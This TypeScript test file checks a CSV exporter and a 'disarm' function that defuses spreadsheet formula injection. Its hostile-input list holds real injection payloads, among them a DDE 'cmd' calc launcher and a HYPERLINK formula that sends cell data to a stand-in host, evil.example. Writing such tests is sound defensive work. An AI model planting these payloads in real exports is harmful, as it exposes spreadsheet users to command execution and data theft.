import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvHead, csvLines, csvOf, type Cell, type Column } from "../../../../src/documents/tables/csv.ts";
import { disarm } from "../../../../src/documents/tables/disarm.ts";

interface Row {
  readonly a: Cell;
  readonly b: Cell;
}

const COLUMNS: readonly Column<Row>[] = [
  { name: "a", of: ({ a }) => a },
  { name: "b", of: ({ b }) => b },
];

const read = (csv: string): unknown => parse(csv, { bom: true, record_delimiter: "\r\n" });

/** What a spreadsheet would run, if it stood at the start of a cell. */
const RUNS = /^[\s\p{Cc}\p{Cf}"]*[=+\-@＝＋－＠]/u;

const HOSTILE = [
  "=1+1",
  "+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\0=1",
  " =1",
  "\u00a0=1",
  "\u200b=1",
  "＝1",
  "＠x",
  '"=1',
  '","=1',
  "hello\n=1",
  "hello\r\n=1",
  "hello\r=1",
  "hello\n  @x",
  "hello\u2028=1",
  "a;=1",
  "a;+1;@b",
  "a\t=1",
  'a"\n"=1',
  "\n\n=1",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
];

describe("a table as CSV", () => {
  it("begins with the mark of UTF-8 and its columns; quotes every cell, ends every line by CRLF", () => {
    expect(csvOf(COLUMNS, [{ a: "x", b: undefined }])).toBe('\uFEFF"a","b"\r\n"x",""\r\n');
    expect(csvOf(COLUMNS, [])).toBe('\uFEFF"a","b"\r\n');
    expect(csvLines(COLUMNS, [])).toBe("");
  });

  it("is the same in parts as in one", () => {
    const rows = [
      { a: 1, b: true },
      { a: "two\nlines", b: 'she said "hi"' },
    ];
    const parts = csvHead(COLUMNS) + rows.map((row) => csvLines(COLUMNS, [row])).join("");
    expect(parts).toBe(csvOf(COLUMNS, rows));
  });

  it("is read back as it was written, numbers below zero too", () => {
    const rows = [{ a: 'x,"y"\r\nz', b: -5 }];
    expect(read(csvOf(COLUMNS, rows))).toEqual([
      ["a", "b"],
      ['x,"y"\r\nz', "-5"],
    ]);
  });

  it.each(HOSTILE)("holds no formula, nor does any part that a careless reader makes of it: %j", (text) => {
    const cell = disarm(text);
    expect(cell.split(/[\r\n\t;\u2028]/u).filter((part) => RUNS.test(part))).toEqual([]);
    expect(RUNS.test(cell)).toBe(false);
    expect(read(csvLines(COLUMNS, [{ a: text, b: "" }]))).toEqual([[cell, ""]]);
  });

  it("holds none whatever was written, and loses no letter of it", () => {
    const piece = fc.oneof(
      fc.constantFrom(...Array.from("=+-@\t\r\n;\"',\0 ＝＠ab")),
      fc.string({ unit: "grapheme" }),
    );
    const texts = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(""));
    fc.assert(
      fc.property(texts, (text) => {
        const cell = disarm(text);
        expect(cell.split(/[\r\n\t;\v\f\u0085\u2028\u2029]/u).some((part) => RUNS.test(part))).toBe(false);
        expect(cell.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
        const [[back] = []] = parse(csvLines(COLUMNS, [{ a: text, b: "" }]), {
          record_delimiter: "\r\n",
        });
        expect(back).toBe(cell);
      }),
      { numRuns: 2000 },
    );
  });

  it("leaves what is no formula as it was written", () => {
    for (const text of ["hello", "a-b", "mail a@b.example", "1+1=2", "it's", "a, -5 and more", "x:y"]) {
      expect(disarm(text)).toBe(text);
    }
  });
});
